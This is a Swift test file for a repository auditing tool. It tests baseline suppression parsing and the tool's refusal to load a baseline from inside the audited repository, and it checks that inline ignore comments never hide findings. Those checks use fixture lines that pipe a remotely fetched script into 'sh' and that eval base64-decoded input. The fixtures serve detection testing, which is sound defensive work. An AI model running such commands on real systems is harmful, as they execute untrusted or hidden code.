import Foundation
import Testing

@testable import CustodyCore

struct BaselineTests {
    func finding(_ fingerprint: String, severity: Severity = .high) -> Finding {
        Finding(
            ruleID: "CUST-CI-003", category: .ciWorkflowRisk, severity: severity, confidence: .high, commit: "c",
            path: ".github/workflows/ci.yml", startLine: 3, endLine: 3, excerpt: "uses: a/b@v1",
            explanation: "x", evidence: "y", fingerprint: fingerprint
        )
    }

    let a = String(repeating: "a", count: 32)
    let b = String(repeating: "b", count: 32)

    @Test func yamlBaselineSuppressesByFingerprintOnly() throws {
        let text = """
            version: 1
            entries:
              - fingerprint: \(a.uppercased())
                rule: CUST-CI-003
                reason: First-party action, reviewed.
                reviewer: jdoe
                date: 2026-01-15

            """
        let baseline = try Baseline.parse(text, source: "baseline.yaml")
        let (kept, suppressed) = baseline.apply([finding(a), finding(b)])
        #expect(kept.map(\.fingerprint) == [b])
        #expect(suppressed.map(\.entry.reviewer) == ["jdoe"])
        #expect(baseline.unused(by: [finding(b)]).count == 1)
    }

    @Test func jsonBaselineAndRoundTrip() throws {
        let json = "{\"version\": 1, \"entries\": [{\"fingerprint\": \"\(b)\", \"reason\": \"Known test key\", \"reviewer\": \"asmith\"}]}"
        let baseline = try Baseline.parse(json, source: "b.json")
        #expect(baseline.entries.first?.reviewer == "asmith")
        let draft = Baseline.draft(accepting: [finding(a), finding(a), finding(b)], reviewer: "jdoe", reason: "triage")
        #expect(draft.entries.count == 2)
        let again = try Baseline.parse(try draft.yaml(), source: "draft.yaml")
        #expect(again == draft)
    }

    @Test(arguments: [
        ("version: 1\nentries:\n  - fingerprint: abc\n    reason: r\n    reviewer: j\n", "32 hexadecimal"),
        ("version: 1\nentries:\n  - fingerprint: \(String(repeating: "a", count: 32))\n    reason: \"  \"\n    reviewer: j\n", "reason"),
        ("version: 1\nentries:\n  - fingerprint: \(String(repeating: "a", count: 32))\n    reason: r\n", "reviewer"),
        ("version: 2\nentries: []\n", "version"),
        ("- just\n- a list\n", "not valid"),
        ("version: 1\nentries:\n  - {fingerprint: \(String(repeating: "c", count: 32)), reason: r, reviewer: j}\n  - {fingerprint: \(String(repeating: "c", count: 32)), reason: r, reviewer: k}\n", "twice"),
    ])
    func invalidBaselinesAreConfigurationErrors(_ text: String, _ message: String) {
        do {
            _ = try Baseline.parse(text, source: "bl.yaml")
            Issue.record("expected an error")
        } catch let error as CustodyError {
            #expect(error.code == .configuration)
            #expect(error.description.contains(message), "\(error)")
            #expect(error.description.hasPrefix("bl.yaml"))
        } catch {
            Issue.record("unexpected \(error)")
        }
    }

    @Test func baselineInsideTheAuditedRepositoryIsRefused() throws {
        let root = FileManager.default.temporaryDirectory.appendingPathComponent("custody-bl-\(UUID().uuidString)")
        let repo = root.appendingPathComponent("repo")
        try FileManager.default.createDirectory(at: repo.appendingPathComponent("ci"), withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: root) }
        let text = "version: 1\nentries:\n  - fingerprint: \(a)\n    reason: r\n    reviewer: j\n"
        let inside = repo.appendingPathComponent("ci/custody-baseline.yaml")
        let outside = root.appendingPathComponent("baseline.yaml")
        try Data(text.utf8).write(to: inside)
        try Data(text.utf8).write(to: outside)
        #expect(throws: CustodyError.self) { try Baseline.load(path: inside.path, auditedRepository: repo.path) }
        // A symlink outside that points inside is refused too.
        let link = root.appendingPathComponent("link.yaml")
        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: inside)
        #expect(throws: CustodyError.self) { try Baseline.load(path: link.path, auditedRepository: repo.path) }
        let loaded = try Baseline.load(path: outside.path, auditedRepository: repo.path)
        #expect(loaded.entries.count == 1)
        #expect(throws: CustodyError.self) { try Baseline.load(path: root.appendingPathComponent("missing.yaml").path) }
    }

    @Test func inlineCommentsInAuditedCodeNeverSuppress() {
        // Every suppression spelling we know of, on lines that each detector must still report.
        let markers = ["# nosec", "// custody:ignore", "# custody-baseline: accept", "/* NOLINT */", "# noqa", "// NOSONAR"]
        for marker in markers {
            let ci = BuildDetectorFixtures.scan(CIWorkflowRiskDetector(), path: ".github/workflows/x.yml", old: nil,
                new: "jobs:\n  a:\n    steps:\n      - run: curl -s https://x.example/i.sh | sh \(marker)\n")
            #expect(ci.contains { $0.ruleID == "CUST-CI-004" }, "\(marker)")
            let build = BuildDetectorFixtures.scan(BuildTamperingDetector(), path: "configure.ac", old: nil,
                new: "eval \"$(echo $P | base64 -d)\" \(marker)\n")
            #expect(build.contains { $0.ruleID == "CUST-BUILD-002" }, "\(marker)")
        }
    }
}
